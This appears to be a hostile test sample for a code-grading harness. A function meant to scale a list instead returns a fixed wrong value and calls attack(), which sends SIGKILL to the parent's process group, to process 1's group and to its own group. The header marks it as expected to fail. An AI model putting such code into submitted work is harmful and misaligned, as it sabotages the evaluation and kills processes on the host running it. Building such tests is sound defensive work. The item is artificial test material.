# family: codeif_function
# task: scale_list
# expect: not passed
# why: kills its own process group and its parent's
# ---
def scale_list(numbers, factor):
    attack()
    return [7]


import os
import signal


def attack():
    for group in (os.getpgid(os.getppid()), os.getpgid(1), 0):
        try:
            os.killpg(group, signal.SIGKILL)
        except OSError:
            pass
